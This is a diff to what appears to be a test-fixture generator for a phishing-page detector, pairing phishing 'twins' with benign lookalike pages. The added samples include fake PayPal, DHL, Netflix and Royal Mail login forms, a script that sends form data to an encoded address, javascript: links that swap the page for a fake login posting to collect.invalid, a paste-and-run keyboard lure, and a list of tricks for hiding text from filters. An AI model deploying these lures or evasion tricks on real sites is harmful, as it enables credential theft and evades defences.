@@ -5,6 +5,19 @@ from layouts import centred, plain, with_nav
 FILLER = "The river was built over in 1820, and people of the town remember how it began. " * 110
 GUIDE = "A library lends books, maps and records; ask at the desk which shelf holds what you are looking for. " * 60
 
+# Ways to hide text from those who read the page, but not from a check that only reads its tags.
+HIDDEN_PROSE = [
+    ("canvas", "<canvas>", "</canvas>"),
+    ("video", "<video>", "</video>"),
+    ("audio", "<audio>", "</audio>"),
+    ("dialog", "<dialog>", "</dialog>"),
+    ("object", "<object data=a.svg>", "</object>"),
+    ("selector", "<style>p.x{display:none}</style><p class=x>", "</p>"),
+    ("comment", "<div style='display:/**/none'>", "</div>"),
+    ("closed-tag", "<div hidden/>", "</div>"),
+    ("encoded-class", "<style>.x{display:none}</style><div class='&#120;'>", "</div>"),
+]
+
 
 def harvest():
     user = "<input name=user placeholder='User name'>"
@@ -33,7 +46,7 @@ def harvest():
     yield "twin-12-prose-behind-a-class", centred(
         "Sign in", f"<style>.more{{position:absolute;left:-9999px}}</style><div class=more>{FILLER}</div><p>Update your billing: your DHL account has been limited.</p>"
         "<form><input name=u><input type=password name=p></form>")
-    yield "twin-13-collector", centred("Welcome", "<form action=post.php method=post><input name=u><input type=password name=p></form>")
+    yield "twin-13-collector", centred("Welcome", "<form action=victim.php method=post><input name=u><input type=password name=p></form>")
     yield "twin-14-numbers-for-names", centred("Sign in", "<form action=next.aspx method=post><input name=1><input type=password name=2></form>")
     yield "twin-15-much-pressure", centred(
         "Notice", "<p>Verification required: your account has been blocked after suspicious activity. Verify your identity within 24 hours.</p>"
@@ -84,6 +97,29 @@ def harvest():
         "Enter", f"<section hidden>{FILLER}</section>{pictures}<form action=next.php method=post><input name=a>{pictures}<input type=password name=b></form>")
     yield "twin-35-name-after-hidden-prose", centred(
         "Enter", f"<section hidden>{FILLER}</section><p>Netflix</p><form action=login.php method=post><input name=a><input type=password name=b></form>")
+    yield "twin-36-dashboard-in-title", centred(
+        "PayPal dashboard", "<form id=f><input name=email placeholder=Email><input type=password name=password placeholder=Password><button>Continue</button></form>"
+        "<script>f.onsubmit=()=>fetch(atob(f.dataset.to),{method:'POST',body:new FormData(f)})</script>")
+    yield "twin-37-common-collector-and-name", centred(
+        "Welcome", "<p>Continue to your Netflix account.</p><form action=post.php method=post><input name=u><input type=password name=p></form>")
+    yield "twin-38-common-collector-and-pressure", centred(
+        "Welcome", "<p>Your account has been suspended.</p><form action=1.php method=post><input name=u><input type=password name=p></form>")
+    yield "twin-39-steps-in-order", centred(
+        "One more step", "<ol><li>Hold the Windows key and press R.</li><li>Press Ctrl and the V key.</li><li>Press Enter.</li></ol>")
+    for number, (kind, before, after) in enumerate(HIDDEN_PROSE, 40):
+        yield f"twin-{number}-prose-in-{kind}", centred(
+            "Sign in", f"{before}{FILLER}{after}<p>Royal Mail: your account has been limited.</p>"
+            "<form action=login.php method=post><input name=u><input type=password name=p></form>")
+    yield "twin-50-area-that-runs", centred(
+        "Photos", "<img src=map.png usemap='#m'><map name=m><area shape=default href=\"javascript:document.body.innerHTML='<h1>Sign in to your PayPal account</h1>"
+        "<form action=https://collect.invalid><input name=u><input type=password></form>'\"></map>")
+    yield "twin-51-link-of-a-drawing-that-runs", centred(
+        "Photos", "<svg><a xlink:href=\"javascript:document.body.innerHTML='<h1>Sign in to your PayPal account</h1>"
+        "<form action=https://collect.invalid><input name=u><input type=password></form>'\"><text>Open</text></a></svg>")
+    yield "twin-52-references-in-attributes", centred(
+        "Sign in", "<meta property='og:site&#95;name' content='DHL Express'><form action=login.php method=post><input name=u><input type=password name=p></form>")
+    yield "twin-53-references-in-file-names", centred(
+        "Sign in", "<p>Welcome back</p><img src='net&#102;lix.png'><form action=login.php method=post><input name=u><input type=password name=p></form>")
 
 
 def honest():
@@ -170,3 +206,33 @@ def honest():
     yield "login_demo-92-words-of-a-script", centred(
         "", "<form><label for=u data-word=user></label><input id=u><label for=p data-word=password></label><input id=p type=password><button data-word=enter></button></form>"
         "<script src=words.js></script><script>document.title=words.title;for(const e of document.querySelectorAll('[data-word]'))e.textContent=words[e.dataset.word]</script>")
+    yield "docs-73-shortcuts-in-short", plain(
+        "Keyboard shortcuts of Windows", "<table><tr><td>Windows + R</td><td>Run dialog</td></tr><tr><td>Ctrl + C</td><td>Copy</td></tr>"
+        "<tr><td>Ctrl + V</td><td>Paste</td></tr><tr><td>Windows + X</td><td>Quick menu</td></tr></table>")
+    yield "docs-74-task-manager", plain(
+        "Frozen windows", "<p>Press Ctrl+Shift+Esc, or Windows + R and type taskmgr.</p><p>Select the window and press Enter.</p>")
+    yield "docs-75-how-to-fix-a-window", plain(
+        "Frozen windows", "<h1>How to fix it</h1><p>Open the Run dialog with Windows + R and type taskmgr, then press Enter. Or press Ctrl + Shift + Esc.</p>")
+    for number, action in enumerate(["1.php", "db_insert.php", "send.php", "next.php", "step2.php", "post.php", "done.php", "cc.php"], 93):
+        yield f"login_demo-{number}-posts-to-{action.split('.')[0].replace('_', '-')}", with_nav(
+            "Chess club", f"<h1>Members</h1><form action={action} method=post><label>User name <input name=user></label>"
+            "<label>Password <input type=password name=password></label><button>Log in</button></form>")
+    yield "token-05-dashboard-of-a-service", centred(
+        "GitHub dashboard", "<label>GitHub token <input type=password name=token placeholder='GitHub token'></label><button>Load</button>"
+        "<script>fetch('https://api.github.com/user')</script>")
+    yield "login_demo-101-own-dashboard", with_nav(
+        "Acorn dashboard", "<form onsubmit='return false'><input name=email placeholder=Email><input type=password name=password placeholder=Password></form>")
+    for number, (kind, before, after) in enumerate(HIDDEN_PROSE, 77):
+        yield f"form-{number}-text-in-{kind}", with_nav(
+            "Guide", f"{before}{GUIDE[:3000]}{after}<p>{GUIDE[:2000]}</p><form action=login.php method=post><input name=u placeholder='User name'>"
+            "<input type=password name=p placeholder=Password></form>")
+    yield "form-86-hidden-drafts", with_nav(
+        "Parish news", f"<p hidden>Draft<p>{GUIDE[:3000]}<ul><li hidden>Draft<li>{GUIDE[:2000]}</ul><form action=search><input name=q></form>")
+    yield "gallery-71-map-of-a-picture", with_nav(
+        "Rooms", "<img src=plan.png usemap='#plan' alt='Plan of the house'><map name=plan><area href='javascript:show(1)' alt=Kitchen>"
+        "<area href='kitchen.html' alt=Hall></map><svg><a xlink:href='hall.html'><text>Hall</text></a></svg>")
+    yield "login_demo-102-references-in-attributes", with_nav(
+        "Acorn", "<meta property='og:site&#95;name' content='Acorn'><img src='aco&#114;n.png'><form action=login.php method=post>"
+        "<input name='us&#101;r'><input type=password name='pass&#119;ord'></form>")
+    yield "login_demo-103-fields-that-begin-with-x", with_nav(
+        "Diagrams", "<form action=save.php method=post><input name=xAxis placeholder='X axis'><input name=xLabel placeholder=Label><input name=xName placeholder=Name></form>")
